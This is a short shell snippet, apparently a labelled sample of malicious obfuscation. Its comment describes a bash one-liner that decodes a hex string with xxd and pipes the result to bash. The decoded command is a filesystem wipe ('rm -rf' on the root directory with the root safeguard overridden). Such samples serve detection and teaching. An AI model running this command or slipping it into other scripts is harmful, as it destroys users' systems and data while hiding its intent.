# Malicious, obfuscated: a hex string reversed by xxd -r -p into bash; decodes to rm -rf /.
echo 726d202d7266202d2d6e6f2d70726573657276652d726f6f74202f | xxd -r -p | bash
